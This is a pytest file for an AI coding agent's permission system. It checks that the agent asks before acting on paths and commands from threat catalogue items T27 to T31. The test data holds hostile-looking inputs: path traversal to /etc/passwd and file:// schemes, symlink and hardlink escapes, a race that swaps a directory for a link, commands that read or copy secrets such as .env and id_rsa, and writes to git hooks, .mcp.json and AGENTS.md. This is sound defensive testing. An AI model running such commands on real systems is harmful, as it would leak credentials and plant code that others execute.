"""Paths that lie, T27 to T31 of the threat catalogue: prefixes, links, races, secrets, files that others execute."""

from __future__ import annotations

import asyncio
import contextlib
import os
import threading
from pathlib import Path

import pytest
from approval_world import World

from hermes_acp.approval.rules import parse_rule
from hermes_acp_tools.hosts.local import LocalHost
from hermes_acp_tools.result import ToolError


@pytest.mark.parametrize("given", ["../app-evil/x", "../x", "src/../../x", "..//x", "/etc/passwd", "../app/../x"])
def test_a_path_is_inside_by_its_components_and_not_by_its_beginning(world: World, given: str) -> None:
    """T27: for files and for commands alike."""
    world = world.mode("accept_edits")
    assert world.decide(world.file("read", given)).verdict == "ask"
    assert world.decide(world.file("write", given)).verdict == "ask"
    assert world.shell(f"cat '{given}'").verdict == "ask"


@pytest.mark.parametrize(
    "given", [".GIT/config", ".git./config", ".git /config", ".VsCode/settings.json", ".git::$DATA/x"]
)
def test_a_protected_name_is_one_in_every_spelling_a_disk_may_take_for_it(world: World, given: str) -> None:
    """T27: letter case, trailing dots and blanks, streams."""
    decision = world.mode("accept_edits").decide(world.file("write", given))
    assert (decision.verdict, decision.once_only) == ("ask", True)


@pytest.mark.parametrize("line", ["cat file:///etc/passwd", "cat FILE:/etc/passwd", "cat ssh://h/x", "cat 'a\0b'"])
def test_an_address_is_no_path(world: World, line: str) -> None:
    """T27: schemes and NUL are not opened unasked."""
    assert world.shell(line).verdict == "ask"


def test_a_link_is_where_it_leads_however_far_up_it_is(world: World, home: Path) -> None:
    """T28: a leaf, a parent, a leaf that does not exist yet."""
    (world.root / "up").symlink_to(home)
    (world.root / "dangling").symlink_to(home / "new")
    world = world.mode("accept_edits")
    for given in ("up/x", "up/.bashrc", "dangling"):
        decision = world.decide(world.file("write", given))
        assert decision.verdict == "ask", given
        assert str(home) in decision.why
    assert world.shell("cat up/x").verdict == "ask"


def test_a_file_with_another_name_elsewhere_is_asked_about_before_it_is_changed(world: World, tmp_path: Path) -> None:
    """T28: a hard link has no target to look at, so the number of names counts."""
    outside = tmp_path / "outside"
    outside.write_text("x")
    (world.root / "inside").hardlink_to(outside)
    world = world.mode("accept_edits")
    world.rules.add(parse_rule("edit(**)"), "user")
    decision = world.decide(world.file("write", "inside"))
    assert (decision.verdict, decision.once_only) == ("ask", True)
    assert "2 names" in decision.why
    assert world.decide(world.file("write", "README.md")).verdict == "allow"


async def test_no_race_between_decision_and_write_leads_outside(world: World, tmp_path: Path) -> None:
    """T22, T28: the resolved path is opened without following links, in a thousand swaps."""
    outside = tmp_path / "outside"
    outside.mkdir()
    inside, away = world.root / "dir", world.root / "away"
    inside.mkdir()
    host = LocalHost(spill_dir=str(tmp_path / "spill"))
    done = threading.Event()

    def swap() -> None:
        while not done.is_set():
            with contextlib.suppress(OSError):
                os.rename(inside, away)
                os.symlink(outside, inside)
                os.unlink(inside)
            with contextlib.suppress(OSError):  # a write made the directory anew meanwhile
                os.rename(away, inside)

    swapping = threading.Thread(target=swap)
    swapping.start()
    wrote = 0
    try:
        async with asyncio.timeout(30):
            for number in range(1_000):
                try:
                    path = str(world.root.resolve() / "dir" / f"f{number}")
                    await host.write_text(path, "x", before=None)
                    wrote += 1
                except (ToolError, OSError):
                    continue
    finally:
        done.set()
        swapping.join()
    assert list(outside.iterdir()) == []
    assert wrote > 0


def test_our_files_are_made_under_names_nobody_can_guess(tmp_path: Path) -> None:
    """T29: a link planted where we write is not written through."""
    from hermes_acp.approval.atomic import write_private

    victim = tmp_path / "victim"
    victim.write_text("untouched")
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    (state / "permissions.yaml").symlink_to(victim)
    write_private(str(state / "permissions.yaml"), "ours")
    assert victim.read_text() == "untouched"
    assert (state / "permissions.yaml").read_text() == "ours"
    assert not (state / "permissions.yaml").is_symlink()


@pytest.mark.parametrize(
    "given",
    [".env", ".env.local", "config/.env.production", "id_rsa", "server.pem", "x.key", ".netrc", "terraform.tfstate"],
)
def test_a_secret_is_read_by_nobody_unasked(world: World, given: str) -> None:
    """T30: whatever the tool, the mode and the rules."""
    world.rules.add(parse_rule("read(**)"), "user")
    world.rules.add(parse_rule("shell(cat:*)"), "user")
    world = world.mode("bypass")
    for decision in (
        world.decide(world.file("read", given)),
        world.shell(f"cat {given}"),
        world.shell(f"cp {given} x"),
        world.shell(f"base64 < {given}"),
        world.shell(f"python3 -c \"open('x')\" {given}"),
    ):
        assert (decision.verdict, decision.once_only) == ("ask", True), decision
    assert world.decide(world.file("read", ".env.example")).verdict == "allow"


WAYS = ("tee {}", "cp x {}", "mv x {}", "echo x > {}", "echo x >> {}", "ln -s x {}", "install x {}", "dd if=x of={}",
        "sed -i p {}", "truncate -s0 {}", "rsync x {}", "curl -o {} http://x.example", "python3 gen.py {}", "rm {}",
        "git checkout main -- {}", "patch {} p", "touch {}", "chmod +x {}")  # fmt: skip


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".vscode/tasks.json", ".mcp.json", "AGENTS.md", ".envrc"])
@pytest.mark.parametrize("way", WAYS)
def test_a_file_that_others_execute_is_written_by_no_tool_unasked(world: World, way: str, path: str) -> None:
    """T31: not by a rule, not in a mode, not by any program."""
    world.rules.add(parse_rule("edit(**)"), "user")
    world.rules.add(parse_rule(f"shell({way.split()[0]}:*)"), "user")
    for mode in ("ask", "accept_edits", "bypass"):
        decision = world.mode(mode).shell(way.format(path))
        assert (decision.verdict, decision.once_only) == ("ask", True), decision
        assert world.mode(mode).decide(world.file("write", path)).once_only
